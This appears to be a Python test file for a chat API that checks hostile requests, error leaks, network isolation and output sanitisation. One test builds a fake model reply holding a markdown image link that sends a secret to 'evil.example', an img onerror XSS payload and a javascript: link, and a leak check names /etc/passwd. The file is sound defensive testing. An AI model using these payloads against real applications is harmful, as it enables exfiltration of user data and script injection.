from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from tests.app.api.clients import KEYS, keyed
from tests.app.api.hostile import HOSTILE, Hostile
from tests.fakes import FakeService, completion, data_uri
from tests.network_guard import no_network

pytestmark = pytest.mark.anyio


@pytest.fixture
async def client(tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
    async with keyed(tmp_path) as clients:
        await clients["zenith"].post(
            "/api/chat", json={"message": "?", "image": data_uri(), "thread_id": "harbor"}
        )
        yield clients["acme"]


async def sent(client: httpx.AsyncClient, hostile: Hostile) -> httpx.Response:
    return await client.request(
        hostile.method,
        hostile.path,
        content=hostile.body,
        params=hostile.params or None,
        headers=hostile.headers,
    )


@pytest.mark.parametrize("name", HOSTILE)
async def test_a_hostile_request_has_its_answer_and_reaches_nothing(
    client: httpx.AsyncClient, name: str
) -> None:
    hostile = HOSTILE[name]
    with no_network() as reached:
        answer = await sent(client, hostile)
    assert answer.status_code == hostile.status, answer.text[:500]
    assert reached == []
    if hostile.code:
        error = answer.json()["error"]
        assert error["code"] == hostile.code, answer.text[:500]
        assert error["message"]
        if not hostile.path.startswith("/v1"):  # OpenAI's shape has no place for it
            assert error["request_id"] == answer.headers["x-request-id"]
    assert len(answer.content) < 20_000
    for leak in ("Traceback", "site-packages", "/etc/passwd\n", *KEYS.values()):
        assert leak not in answer.text


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60


async def test_an_error_never_repeats_a_field_that_was_sent(client: httpx.AsyncClient) -> None:
    answer = await client.post("/api/chat", json={"message": "a", "my-secret-field": 1})
    assert answer.status_code == 422
    assert "secret" not in answer.text


async def test_a_models_words_are_data_and_never_a_page(tmp_path: Path) -> None:
    words = "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [a](javascript:b)"
    service = FakeService([httpx.Response(200, json=completion(words))])
    async with keyed(tmp_path, service=service) as clients:
        with no_network() as reached:
            answer = await clients["acme"].post(
                "/api/chat", json={"message": "How many ships are there?", "image": data_uri()}
            )
            graph = await clients["acme"].get("/api/graph")
    assert reached == []
    assert "evil.example" in answer.json()["content"]
    assert answer.headers["content-type"] == "application/json"
    for each in (answer, graph):
        assert each.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in each.headers["content-security-policy"]


async def test_a_guard_sees_what_would_leave_this_machine() -> None:
    with no_network() as reached:
        async with httpx.AsyncClient(trust_env=False) as client:
            with pytest.raises(httpx.ConnectError):
                await client.get("http://192.0.2.1/")
    assert reached == ["socket.connect 192.0.2.1"]
